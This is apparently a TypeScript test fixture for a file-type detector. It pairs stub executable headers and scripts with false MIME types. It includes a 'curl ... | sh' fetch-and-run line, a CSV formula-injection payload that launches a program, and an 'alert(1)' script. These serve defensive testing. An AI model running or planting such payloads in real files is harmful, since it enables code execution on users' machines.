import { compound, honestFile, join, latin1, zip } from './bytes.ts';
import { type DishonestFile, file } from './dishonest-file.ts';

const EXE = join(latin1('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'), Buffer.alloc(64), latin1('PE\0\0'));
const ELF = join(latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(57));
const MACH_O = join(latin1('\xcf\xfa\xed\xfe\x07\0\0\x01'), Buffer.alloc(24));
const WASM = latin1('\0asm\x01\0\0\0');
const CLASS = latin1('\xca\xfe\xba\xbe\0\0\0\x41\0\x10');
const SHELL = Buffer.from('#!/bin/sh\ncurl -s x | sh\n');

/** Programs under other names. */
export const PROGRAMS: readonly DishonestFile[] = [
  file('a Windows program as CSV', 'text/csv', EXE, 'type_mismatch'),
  file('a Windows program as PDF', 'application/pdf', EXE, 'type_mismatch'),
  file('a Windows program as a picture', 'image/jpeg', EXE, 'type_mismatch'),
  file('a Linux program as CSV', 'text/csv', ELF, 'type_mismatch'),
  file('a Linux program as a film', 'video/mp4', ELF, 'type_mismatch'),
  file('a macOS program as JSON', 'application/json', MACH_O, 'type_mismatch'),
  file('WebAssembly as plain text', 'text/plain', WASM, 'type_mismatch'),
  file('a Java class as a sound', 'audio/mpeg', CLASS, 'type_mismatch'),
  file('a shell script as CSV', 'text/csv', SHELL, 'type_mismatch'),
  file('a shell script as plain text', 'text/plain', SHELL, 'type_mismatch'),
  file('a shell script after a byte order mark', 'text/csv', join('\ufeff', SHELL), 'type_mismatch'),
  file('PostScript as plain text', 'text/plain', Buffer.from('%!PS-Adobe-3.0\n(x) run\n'), 'type_mismatch'),
  file(
    'rich text with an object as plain text',
    'text/plain',
    Buffer.from('{\\rtf1{\\object\\objdata 0}}'),
    'type_mismatch',
  ),
  file(
    'a PDF made of text alone, as plain text',
    'text/plain',
    Buffer.from('%PDF-1.4\n%%EOF\n'),
    'type_mismatch',
  ),
  file('JavaScript as CSV', 'text/csv', Buffer.from('alert(1)\n'), 'inert'),
  file('a spreadsheet formula in a CSV', 'text/csv', Buffer.from('=cmd|" /C calc"!A0,1\n'), 'inert'),
  file(
    'a Java archive as a document',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    zip({ 'META-INF/MANIFEST.MF': 'Main-Class: X' }),
    'type_mismatch',
  ),
  file(
    'a Java archive as the zip that it is',
    'application/zip',
    zip({ 'META-INF/MANIFEST.MF': 'Main-Class: X' }),
    'inert',
  ),
  file(
    'a Flash film as a picture',
    'image/gif',
    join('CWS', latin1('\x0a\0\0\0\0'), Buffer.alloc(20)),
    'type_mismatch',
  ),
  file(
    'an old Office file with macros as a new one',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    compound('Workbook', '_VBA_PROJECT_CUR'),
    'type_mismatch',
  ),
  file('a gzip as CSV', 'text/csv', honestFile('packed.gz'), 'type_mismatch'),
];
